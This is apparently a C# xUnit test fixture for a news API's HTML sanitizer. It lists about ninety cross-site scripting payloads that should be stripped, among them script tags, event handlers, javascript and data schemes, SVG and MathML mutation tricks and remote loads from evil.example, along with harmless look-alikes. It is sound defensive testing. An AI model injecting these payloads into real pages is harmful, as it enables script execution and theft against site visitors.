using Xunit;

namespace NewsApi.Tests.Editorial;

/// <summary>Inline HTML as an attacker would send it, and such as only looks like it.</summary>
internal static class HostilePayloads
{
    /// <summary>Of each of these something must go, and be reported.</summary>
    public static readonly TheoryData<string> Hostile =
    [
        // Scripts
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<script/x>alert(1)</script >",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script>alert(1)",
        "</script><script>alert(1)</script>",
        "<script type=module>import 'https://evil.example/x.js'</script>",
        // Event handlers
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=\"alert(1)\" ",
        "<img/src=x/onerror=alert(1)//",
        "<span onclick=alert(1)>x</span>",
        "<em onmouseover='alert(1)' lang=en>x</em>",
        "<a href=https://example.org onfocus=alert(1) autofocus tabindex=1>x</a>",
        "<body onload=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<strong OnPointerEnter\t=\nalert(1)>x</strong>",
        "<span style=animation-name:x onanimationend=alert(1)>x</span>",
        "<xss onpointerenter=alert(1) contenteditable>x</xss>",
        // Schemes
        "<a href=javascript:alert(1)>x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java&#115;cript:alert(1)\">x</a>",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
        "<a href=\"java&NewLine;script:alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"\u00a0javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        "<a href=\"feed:javascript:alert(1)\">x</a>",
        "<a href=\"view-source:https://example.org\">x</a>",
        "<a href=\"blob:https://example.org/1\">x</a>",
        "<a href=\"//evil.example/\">x</a>",
        "<a href=\"\\\\evil.example\">x</a>",
        "<a href=\"/v1/me\">x</a>",
        "<a href=\"https://bank.example@evil.example/\">x</a>",
        "<a href=\"https://user:password@example.org/\">x</a>",
        "<a href='https://example.org/\"><script>alert(1)</script>'>x</a>",
        "<a href=\"https://example.org/>)<img src=x onerror=alert(1)>\">x</a>",
        "<a href=\"https://example.org/\n\n<script>alert(1)</script>\">x</a>",
        "<a xlink:href=javascript:alert(1)>x</a>",
        "<a ping=https://evil.example target=_blank rel=opener download href=https://example.org>x</a>",
        // SVG, MathML, and what mutates when it is parsed again
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>",
        "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
        "<textarea></textarea><img src=x onerror=alert(1)>",
        "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<select><template><img src=x onerror=alert(1)></template></select>",
        "<template><script>alert(1)</script></template>",
        "<plaintext><script>alert(1)</script>",
        // Styles
        "<style>@import 'https://evil.example/x.css';</style>",
        "<span style=\"background:url(javascript:alert(1))\">x</span>",
        "<em style='position:fixed;inset:0;z-index:9'>x</em>",
        "<span class=\"modal-open\">x</span>",
        // What loads, frames, sends or redirects
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<object data=data:text/html,<script>alert(1)</script>></object>",
        "<embed src=https://evil.example/x.swf>",
        "<form action=https://evil.example><button formaction=javascript:alert(1)>x</button></form>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<img srcset=\"https://evil.example/x.png 1x, javascript:alert(1) 2x\">",
        "<picture><source srcset=https://evil.example/x.png><img src=x></picture>",
        "<audio src=https://evil.example/x.mp3 autoplay></audio>",
        // Comments and such
        "<!-- <script>alert(1)</script> -->",
        "<!--><script>alert(1)</script>-->",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
        "<!DOCTYPE html [<!ENTITY x \"<script>alert(1)</script>\">]>",
        // Malformed
        "<<script>alert(1)//<</script>",
        "<a href=\"https://example.org\" \"onclick=alert(1)\">x</a>",
        "<em/onclick=alert(1)>x",
        "</em onclick=alert(1)>",
        "<img \"\"\"><script>alert(1)</script>\"\\>",
        "<table><td><a href=javascript:alert(1)>x",
        // Names that shadow those of a page
        "<a id=location href=https://example.org>x</a>",
        "<span id=__proto__ name=cookie>x</span>",
        "<form name=body><input name=firstChild></form>",
        // Letters that are not what they seem
        "<\u017fcript>alert(1)</\u017fcript><script>alert(1)</script>",
        "<img src=x \u2028onerror=alert(1)>",
        "<a href=\"https://example.org/\u202egpj.exe\">x</a>",
        "<a href=\"javascript\uff1aalert(1)\">x</a>",
    ];

    /// <summary>In these there is nothing to take out: they are text, or what stories may hold.</summary>
    public static readonly TheoryData<string> Harmless =
    [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;script&amp;gt;",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "if a < b and b > c && c",
        "javascript:alert(1)",
        "\" onmouseover=\"alert(1)",
        "`<code>&lt;script&gt;</code>`",
        "<code>`&lt;img src=x onerror=alert(1)&gt;`</code>",
        "<code>``</code><code>`</code><code>&lt;script&gt;alert(1)&lt;/script&gt;</code>",
        "<code>a\n\n&lt;script&gt;alert(1)&lt;/script&gt;\n\nb</code>",
        "\\<code>\\&lt;script&gt;</code>",
        "[x](javascript:alert(1)) ![x](https://evil.example/x.png)",
        "Look!<a href=\"https://example.org/\">here</a>",
        "<a href=\"mailto:desk@example.org?subject=Tides\">x</a>",
        "<a href=\"HTTPS://example.org/a?b=c&amp;d='e'#f\">x</a>",
        "<em><strong><s><sub>x</sub><sup>y</sup></s></strong></em><br><q><cite lang=\"fr\" dir=\"ltr\">z</cite></q>",
        "<em>a<strong>b</em>c</strong>",
    ];
}
